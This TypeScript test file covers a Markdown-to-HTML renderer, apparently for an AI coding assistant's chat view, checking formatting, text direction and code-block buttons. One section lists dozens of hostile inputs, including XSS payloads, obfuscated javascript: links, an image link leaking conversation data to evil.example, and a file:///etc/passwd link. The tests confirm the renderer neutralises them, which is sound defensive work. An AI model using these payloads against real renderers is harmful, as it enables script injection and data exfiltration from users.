import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { rendered } from './surroundings.ts';

const tableButton = (icon: string, label: string, action: string): string =>
  `<button class="icon-button codicon codicon-${icon}" type="button" tabindex="-1" title="${label}" aria-label="${label}" data-table="${action}"></button>`;
const tableStart =
  '<div class="table-wrapper" dir="ltr" tabindex="0" role="group" aria-label="Table" aria-description="Keys">'.concat(
    '<div class="table-tools" role="toolbar" aria-label="Table">',
    tableButton('copy', 'Copy as Markdown', 'copyMarkdown'),
    tableButton('table', 'Copy as CSV', 'copyCsv'),
    '</div><table><thead><tr>',
  );

describe('Markdown becomes', () => {
  const cases: [name: string, source: string, html: string][] = [
    [
      'a paragraph with emphasis',
      'a **b** *c* ~~d~~ `e`',
      '<p dir="auto">a <strong>b</strong> <em>c</em> <del>d</del> <code dir="ltr">e</code></p>',
    ],
    ['a heading below that of the turn', '# One', '<h3 dir="auto" class="heading-1">One</h3>'],
    ['headings no deeper than h6', '###### Six', '<h6 dir="auto" class="heading-6">Six</h6>'],
    ['a tight list', '- a\n- b', '<ul><li dir="auto">a</li><li dir="auto">b</li></ul>'],
    [
      'a loose list with paragraphs',
      '- a\n\n- b',
      '<ul><li dir="auto"><p dir="auto">a</p></li><li dir="auto"><p dir="auto">b</p></li></ul>',
    ],
    ['a list that starts elsewhere', '3. c', '<ol start="3"><li dir="auto">c</li></ol>'],
    [
      'a task list',
      '- [x] a\n- [ ] b',
      '<ul><li dir="auto" class="task"><input type="checkbox" disabled="" checked="" aria-label="Done">'.concat(
        '</input>a</li><li dir="auto" class="task"><input type="checkbox" disabled="" aria-label="To do"></input>b</li></ul>',
      ),
    ],
    ['a nested list', '- a\n  1. b', '<ul><li dir="auto">a<ol><li dir="auto">b</li></ol></li></ul>'],
    ['a quote', '> a', '<blockquote dir="ltr"><p dir="auto">a</p></blockquote>'],
    ['a rule', 'a\n\n---', '<p dir="auto">a</p><hr></hr>'],
    ['a hard line break', 'a  \nb', '<p dir="auto">a<br></br>b</p>'],
    [
      'a table that scrolls by itself',
      '| a | b |\n|:-:|--:|\n| 1<br>2 | 3 |',
      tableStart.concat(
        '<th dir="auto" scope="col" title="Sort" tabindex="-1" class="align-center">a</th>',
        '<th dir="auto" scope="col" title="Sort" tabindex="-1" class="align-right">b</th>',
        '</tr></thead><tbody><tr><td dir="auto" class="align-center">1<br></br>2</td>',
        '<td dir="auto" class="align-right">3</td></tr></tbody></table></div>',
      ),
    ],
    [
      'a link that tells where it leads',
      '[docs](https://example.com/a "title")',
      '<p dir="auto"><a href="https://example.com/a" title="https://example.com/a">docs</a></p>',
    ],
    [
      'a bare address',
      'https://example.com',
      '<p dir="auto"><a href="https://example.com/" title="https://example.com/">https://example.com</a></p>',
    ],
    ['a mail address', '<me@example.com>', '<p dir="auto">&lt;me@example.com&gt;</p>'],
    ['a mail address in a sentence', 'git@host.example:x', '<p dir="auto">git@host.example:x</p>'],
    [
      'a mail link that says so',
      '<mailto:me@example.com>',
      '<p dir="auto"><a href="mailto:me@example.com" title="mailto:me@example.com">mailto:me@example.com</a></p>',
    ],
    [
      'an address in a Chinese sentence',
      '见 https://example.com/a，再看（https://example.com/b）。',
      '<p dir="auto">见 <a href="https://example.com/a" title="https://example.com/a">https://example.com/a</a>，再看（<a href="https://example.com/b" title="https://example.com/b">https://example.com/b</a>）。</p>',
    ],
    ['emphasis beside Chinese brackets', '这**「甲」**乙', '<p dir="auto">这<strong>「甲」</strong>乙</p>'],
    ['emphasis that ends with a Chinese stop', '**甲。**乙', '<p dir="auto"><strong>甲。</strong>乙</p>'],
    [
      'emphasis of code in a Chinese sentence',
      '用**`a`**装',
      '<p dir="auto">用<strong><code dir="ltr">a</code></strong>装</p>',
    ],
    ['emphasis before a Korean ending', '**가(a)**는', '<p dir="auto"><strong>가(a)</strong>는</p>'],
    ['italics in Japanese', '甲*「乙」*丙', '<p dir="auto">甲<em>「乙」</em>丙</p>'],
    ['what is struck through in Japanese', '甲~~「乙」~~丙', '<p dir="auto">甲<del>「乙」</del>丙</p>'],
    [
      'single tildes',
      '约3~5天，价100~200元 a(1~3), b(80~100)',
      '<p dir="auto">约3~5天，价100~200元 a(1~3), b(80~100)</p>',
    ],
    [
      'keys, and text below and above the line',
      'Press <kbd>Ctrl</kbd>, H<sub>2</sub>O, x<SUP class="a" onclick="b()">**n**</SUP>',
      '<p dir="auto">Press <kbd>Ctrl</kbd>, H<sub>2</sub>O, x<sup><strong>n</strong></sup></p>',
    ],
    [
      'tags without a partner',
      '<kbd>a <sub>b</kbd> c</sub> <kbd/>',
      '<p dir="auto"><kbd>a &lt;sub&gt;b</kbd> c&lt;/sub&gt; &lt;kbd/&gt;</p>',
    ],
    ['a line that begins with a tag', '<kbd>A</kbd>\n**b**', '<p dir="auto"><kbd>A</kbd>\n<strong>b</strong></p>'],
    [
      'a line break that stands alone',
      'a\n\n<br>\n\nb',
      '<p dir="auto">a</p><p dir="auto"><br></br></p><p dir="auto">b</p>',
    ],
    [
      'text that folds',
      '<details>\n<summary>A **b**</summary>\n\nC *d*\n\n- e\n\n</details>\nf',
      '<details dir="ltr"><summary>A <strong>b</strong></summary><div class="folded"><p dir="auto">C <em>d</em></p><ul><li dir="auto">e</li></ul></div></details><p dir="auto">f</p>',
    ],
    [
      'text that is unfolded, on one line, with other attributes',
      '<details class="a" open onclick="b()"><summary id="c">D</summary>e</details>',
      '<details dir="ltr" open=""><summary>D</summary><div class="folded"><p dir="auto">e</p></div></details>',
    ],
    [
      'text that folds without a first line',
      '<details>\n\nA\n\n</details>',
      '<details dir="ltr"><summary>Details</summary><div class="folded"><p dir="auto">A</p></div></details>',
    ],
    [
      'an element that is only spoken of',
      '<details> is an element',
      '<p dir="auto" class="raw-html">&lt;details&gt; is an element</p>',
    ],
    [
      'a tag line and what follows a blank line',
      '<script>\n**a**\n\n**b**',
      '<p dir="auto" class="raw-html">&lt;script&gt;\n**a**</p><p dir="auto"><strong>b</strong></p>',
    ],
    [
      'a table whose corner is empty',
      '| | a |\n|---|---|\n| b | c |',
      tableStart.concat(
        '<td dir="auto" title="Sort" tabindex="-1"></td><th dir="auto" scope="col" title="Sort" tabindex="-1">a</th>',
        '</tr></thead><tbody><tr><td dir="auto">b</td><td dir="auto">c</td></tr></tbody></table></div>',
      ),
    ],
    ['what looks like a definition', '[TODO]: fix', '<p dir="auto">[TODO]: fix</p>'],
    [
      'a footnote',
      'x[^1]\n\n[^1]: RFC2119',
      '<p dir="auto">x<span class="footnote" data-footnote="1">[^1]</span></p>'.concat(
        '<p dir="auto"><span class="footnote-start" data-footnote="1">[^1]</span>: RFC2119</p>',
      ),
    ],
    [
      'sources that nothing refers to',
      'Links:\n\n[1]: https://example.com/a',
      '<p dir="auto">Links:</p><p dir="auto">[1]: <a href="https://example.com/a" title="https://example.com/a">https://example.com/a</a></p>',
    ],
    ['lines of a paragraph', 'one\ntwo', '<p dir="auto">one\ntwo</p>'],
    [
      'a link by reference',
      '[a][b]\n\n[b]: https://example.com',
      '<p dir="auto"><a href="https://example.com/" title="https://example.com/">a</a></p>',
    ],
    [
      'a label where a link leads to a file',
      '[a.ts](src/a.ts)',
      '<p dir="auto"><span title="src/a.ts" class="path" data-path="src/a.ts">a.ts</span></p>',
    ],
    [
      'characters for their references',
      '&lt;b&gt; &#65;&#x42; &copy; &unknown;',
      '<p dir="auto">&lt;b&gt; AB © &amp;unknown;</p>',
    ],
    ['code with its references left alone', '`&lt;`', '<p dir="auto"><code dir="ltr">&amp;lt;</code></p>'],
  ];
  for (const [name, source, html] of cases) {
    test(name, () => assert.equal(rendered(source).innerHTML, html));
  }
});

test('a tag within code does not end text that folds', () => {
  const source =
    '<details>\n<summary>A</summary>\n\n`</details>` b\n\n```html\n<details>\n</details>\n</details>\n```\n\nc\n</details>\nd';
  const [details, after, ...others] = rendered(source).children;
  assert.deepEqual([details?.nodeName, after?.outerHTML, others.length], ['DETAILS', '<p dir="auto">d</p>', 0]);
  assert.match(details?.textContent ?? '', /<\/details> b[^]*<details>\n<\/details>\n<\/details>c$/);
});

describe('A document as code holds the blocks of code within it:', () => {
  const codeAndText = (source: string): string[] =>
    Array.from(rendered(source).children, element => {
      const code = element.className === 'code-block' ? element.children[1]?.children[0] : undefined;
      return code ? `[${code.textContent}]` : element.textContent;
    });
  const cases: [name: string, source: string, shown: string[]][] = [
    ['one', '```md\n# T\n```js\nx\n```\nend\n```\nafter', ['[# T\n```js\nx\n```\nend]', 'after']],
    [
      'several, and one within a document',
      '```markdown a.md\n```js\n```\n```md\n```ts\n```\n```\n```\nafter',
      ['[```js\n```\n```md\n```ts\n```\n```]', 'after'],
    ],
    ['with fewer marks', '````md\n```js\n```\n````\nafter', ['[```js\n```]', 'after']],
    ['with more marks', '```md\n````js\n```\n````\n```\nafter', ['[````js\n```\n````]', 'after']],
    ['with tildes', '~~~md\n~~~js\n~~~\n~~~\nafter', ['[~~~js\n~~~]', 'after']],
    ['with its indentation', '  ```md\n  a\n  ```js\n  ```\n  ```\nafter', ['[a\n```js\n```]', 'after']],
    ['in a list', '- a\n  ```md\n  ```js\n  ```\n  ```\n\nafter', ['amd```js\n```', 'after']],
    ['but other code does not', '```txt\n```js\n```\nafter', ['[```js]', 'after']],
    ['nor one that never closes', '```md\n```js\nx\n```\nafter', ['[```js\nx]', 'after']],
  ];
  for (const [name, source, shown] of cases) test(name, () => assert.deepEqual(codeAndText(source), shown));
});

describe('Every block reads in its own direction:', () => {
  const directions = (source: string): string[] =>
    rendered(source)
      .descendants.filter(element => element.getAttribute('dir') !== null)
      .map(element => `${element.nodeName.toLowerCase()} ${element.getAttribute('dir') ?? ''}`);

  test('paragraphs, headings and items by their own letters', () => {
    assert.deepEqual(directions('שלום\n\n# مرحبا\n\n- one\n- אחת'), ['p auto', 'h3 auto', 'li auto', 'li auto']);
  });
  test('a quote’s mark and a table’s columns by their first letter', () => {
    assert.deepEqual(directions('> 1. שלום\n\ntext\n\n> *hello*'), [
      'blockquote rtl',
      'li auto',
      'p auto',
      'blockquote ltr',
      'p auto',
    ]);
    assert.deepEqual(directions('| שם | b |\n|-|-|\n| 1 | c |'), [
      'div rtl',
      'th auto',
      'th auto',
      'td auto',
      'td auto',
    ]);
  });
  test('code from left to right always, and without a say in the direction around it', () => {
    assert.deepEqual(directions('`code` קודם\n\n```\nשלום\n```'), ['p auto', 'code ltr', 'div ltr']);
  });
});

test('a code block has its language, its buttons and its code without the last newline', () => {
  const [block] = rendered('```ts title="a.ts"\nlet a;\n\n```').children;
  assert.equal(block?.className, 'code-block');
  const [header, scroller] = block.children;
  assert.equal(block.getAttribute('data-info'), 'ts title="a.ts"');
  assert.equal(header?.children[0]?.textContent, 'ts');
  assert.equal(header.children[0].getAttribute('aria-expanded'), 'true');
  const buttons = header.children.slice(1);
  assert.deepEqual(
    buttons.map(button => button.getAttribute('data-code')),
    ['wrap', 'newFile', 'insert', 'apply', 'copy'],
  );
  assert.equal(buttons.at(-1)?.getAttribute('aria-label'), 'Copy code');
  assert.equal(scroller?.textContent, 'let a;\n');
  assert.equal(scroller.getAttribute('tabindex'), '0');
});

test('only a shell’s code can go to the terminal', () => {
  const offers = (language: string): boolean => {
    const [block] = rendered(`\`\`\`${language}\nx\n\`\`\``).children;
    return block?.children[0]?.children.some(child => child.getAttribute('data-code') === 'terminal') ?? false;
  };
  assert.deepEqual(['bash', 'sh', 'PowerShell', 'ts', ''].map(offers), [true, true, true, false, false]);
});

test('of a block of code Tab stops at the code alone, which says where its buttons are', () => {
  const stops = rendered('```sh\nls\n```').descendants.filter(
    element => element.nodeName === 'BUTTON' || element.getAttribute('tabindex') !== null,
  );
  assert.deepEqual(
    stops.map(element => [element.getAttribute('data-code') ?? element.nodeName, element.getAttribute('tabindex')]),
    [
      ...['collapse', 'wrap', 'terminal', 'newFile', 'insert', 'apply', 'copy'].map(action => [action, '-1']),
      ['PRE', '0'],
    ],
  );
  assert.equal(stops.at(-1)?.getAttribute('aria-description'), 'Keys');
});

describe('Nothing in an answer becomes markup, script or a request:', () => {
  const hostile = [
    '<script>alert(1)</script>',
    'text <script src="https://evil.example/x.js"></script> text',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    '<style>body{background:url(https://evil.example)}</style>',
    '<form action="https://evil.example"><input name=q></form>',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<!-- <img src=x onerror=alert(1)> -->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '[x](\u0001javascript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](file:///etc/passwd)',
    '[x](command:workbench.action.terminal.new)',
    '[x](vscode://some.extension/do)',
    '[x](//evil.example)',
    '[x](blob:https://evil.example/1)',
    '[x]: javascript:alert(1)\n\n[x]',
    '<javascript:alert(1)>',
    '![x](https://evil.example/pixel.png?conversation=secret)',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '![x](javascript:alert(1))',
    '![x][y]\n\n[y]: https://evil.example/pixel.png',
    '![<img src=x onerror=alert(1)>](https://evil.example/a.png)',
    '[![x](https://evil.example/a.png)](https://evil.example)',
    '[x](https://example.com "\' onmouseover=\'alert(1)")',
    '[x](https://example.com/"onmouseover="alert(1))',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '``` onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```',
    '`<script>alert(1)</script>`',
    '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
    '# <script>alert(1)</script>',
    '> <script>alert(1)</script>',
    '- <script>alert(1)</script>',
    '- [ ] <input onfocus=alert(1) autofocus>',
    '**<script>alert(1)</script>**',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<details open ontoggle=alert(1)>',
    '$\\href{javascript:alert(1)}{x}$',
    '$\\href{https://evil.example}{x}$',
    '$\\url{https://evil.example}$',
    '$\\includegraphics{https://evil.example/a.png}$',
    '$\\class{codicon" onmouseover="alert(1)}{x}$',
    '$\\id{app}{x}$',
    '$\\style{background:url(https://evil.example)}{x}$',
    '$\\data{x=1}{y}$',
    '$\\text{<img src=x onerror=alert(1)>}$',
    '$<script>alert(1)</script>$',
    '$\\textcolor{url(https://evil.example)}{x}$',
    '$\\def\\a{\\a\\a}\\a$',
    '$\\rule{99999em}{99999em}$',
    '$$\\begin{array}{c}'.concat('x\\\\'.repeat(400), '\\end{array}$$'),
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ];
  const elements =
    /^(p|h[3-6]|ul|ol|li|blockquote|hr|br|div|span|a|code|pre|button|strong|em|del|kbd|sub|sup|details|summary|table|thead|tbody|tr|th|td|input|math|m[a-z]+)$/;
  const attributes =
    /^(class|dir|open|href|title|tabindex|role|aria-label|aria-description|aria-hidden|type|disabled|checked|start|scope|data-code|data-table|data-language|data-info|data-path|data-line|aria-expanded|data-math|display|mathbackground|width|height|depth|voffset|minsize|maxsize|scriptlevel|form|fence|stretchy|lspace|rspace|style:[a-z-]+)$/;

  for (const source of hostile) {
    test(JSON.stringify(source), () => {
      for (const element of rendered(source).descendants) {
        assert.match(element.nodeName.toLowerCase(), elements);
        for (const { name } of element.attributes) assert.match(name, attributes);
        const href = element.getAttribute('href');
        if (href !== null) assert.match(href, /^(https?:\/\/|mailto:)/);
        if (element.nodeName === 'INPUT') assert.equal(element.getAttribute('type'), 'checkbox');
      }
    });
  }

  test('raw HTML is shown as it was written', () => {
    assert.equal(rendered('<b onclick=x>hi</b>').textContent, '<b onclick=x>hi</b>');
    assert.equal(rendered('<div>\n<i>hi</i>\n</div>').textContent, '<div>\n<i>hi</i>\n</div>');
  });

  test('an image is named and linked, and its address is told', () => {
    const [link] = rendered('![chart](https://example.com/a.png)').children[0]?.children ?? [];
    assert.equal(link?.nodeName, 'A');
    assert.equal(link.textContent, 'chart');
    assert.equal(link.getAttribute('title'), 'https://example.com/a.png');
  });
});
